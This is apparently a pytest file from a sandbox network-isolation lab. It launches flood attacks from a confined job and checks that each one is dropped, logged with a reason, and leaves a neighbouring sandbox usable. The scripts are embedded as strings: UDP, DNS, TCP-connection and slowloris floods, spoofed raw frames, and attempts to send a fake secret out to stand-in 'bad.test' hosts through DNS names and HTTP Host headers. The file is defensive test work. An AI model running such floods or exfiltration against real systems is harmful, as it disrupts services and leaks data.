# SPDX-License-Identifier: Apache-2.0
"""Too much of everything: the attacker may wear out its own gate, and everything is counted; the sandbox beside works on."""

import pytest

from lab import v4

from .packets import *

SHARE = 20  # the neighbour's median request may take that many times what it usually takes, and LATE more
LATE = 1000  # milliseconds: what a busy machine makes of it; a connection that is not taken is tried again after a second at the earliest
FRAMES = 5  # times each frame

# technique: (script, reasons on record for it)
FLOODS = {
    "flood: UDP": ("""
        sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        for number in range(50_000):
            try:
                sock.sendto(b"exfil-5ecret", (sys.argv[1], 1000 + number % 60_000))
            except OSError:
                pass
    """, ["udp"]),
    "flood: DNS": ("""
        sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        for number in range(10_000):
            sock.sendto(dns_query(f"exfil-5ecret-{number}.bad.test"), ("10.200.0.1", 53))
    """, ["not_allowed"]),
    "flood: connections": ("""
        for number in range(2_000):
            sock = socket.socket()
            try:
                sock.connect((sys.argv[1], 443))
            except OSError:
                pass
            sock.close()
    """, ["client_gone"]),
    "flood: connections that send nothing (slowloris)": ("""
        import resource
        resource.setrlimit(resource.RLIMIT_NOFILE, (resource.getrlimit(resource.RLIMIT_NOFILE)[1],) * 2)
        held = []
        for number in range(2_000):
            try:
                sock = tcp(sys.argv[1], 443 if number % 2 else 80)
                sock.send(b"\\x16\\3\\1" if number % 2 else b"GET / HT")
                held.append(sock)
            except OSError:
                pass
    """, ["client_gone", "http_malformed"]),
    "flood: more connections than the job may have open": ("""
        held = []
        for number in range(300):
            try:
                held.append(tcp("ok.test", 443))
            except OSError:
                pass
    """, ["limit_connections"]),
    "flood: requests on one connection": ("""
        with tcp("ok.test", 80) as sock:
            stream = sock.makefile("rb")
            for _ in range(20):
                sock.sendall(b"GET /hello HTTP/1.1\\r\\nHost: ok.test\\r\\n\\r\\n" * 50)
                for _ in range(50):
                    response(stream)
    """, ["rule"]),
    "flood: denied requests": ("""
        for number in range(1_000):
            with tcp(sys.argv[1], 80) as sock:
                sock.sendall(b"GET / HTTP/1.1\\r\\nHost: exfil-5ecret.bad.test\\r\\n\\r\\n")
                fate(sock)
    """, ["not_allowed"]),
}


def is_fair(neighbour, samples):
    """The neighbour's requests took not much longer than they usually do."""
    return neighbour.median(samples) <= SHARE * neighbour.usual + LATE


@pytest.mark.parametrize("technique", FLOODS)
def test_flood(attack, neighbour, technique):
    script, expected = FLOODS[technique]
    first = len(neighbour.samples)
    with attack(technique, args=["--max-connections", "50"] if "may have" in technique else []) as attempt:
        attempt.python(script, v4("other"))
    neighbour.settle(1)
    assert is_fair(neighbour, neighbour.samples[first:]), (neighbour.usual, neighbour.median(neighbour.samples[first:]))
    end = attempt.result.one("end")
    conns = {record["conn"] for record in attempt.result.of("decision") if "conn" in record}
    summed = sum(record.get("count", 0) for record in attempt.result.of("decision") if record["door"] != "dns")
    assert len(conns) + summed == end["accepts"], "a connection without its record"
    reasons = {record["reason"] for kind in ("drop", "decision") for record in attempt.result.of(kind)}
    assert set(expected) <= reasons, reasons
    attempt.note(", ".join(f"`{reason}`" for reason in expected))


def test_frames(attack, neighbour):
    """What only root can send: frames as fast as they go, from random sources."""
    first = len(neighbour.samples)
    with attack("flood: frames of every kind") as attempt:
        frames = [ip4("203.0.114.85") / TCP(sport=number, dport=443, flags="S") for number in range(1, 200)]
        frames += [LINK / IP(src=f"203.0.113.{number}", dst="203.0.114.85") / UDP() / SECRET for number in range(1, 200)]
        frames += [ip4("203.0.114.85", proto=47) / SECRET, ip4("203.0.114.85") / ICMP() / SECRET]
        error = attempt.send(*frames * FRAMES)
    neighbour.settle(1)
    assert is_fair(neighbour, neighbour.samples[first:])
    if not attempt.root:
        attempt.refused(error)
        return
    for reason in ("half_open", "spoofed", "ip_protocol", "icmp"):
        assert sum(record["count"] for record in attempt.recorded("drop", reason=reason)) == FRAMES * (199 if reason in ("half_open", "spoofed") else 1)
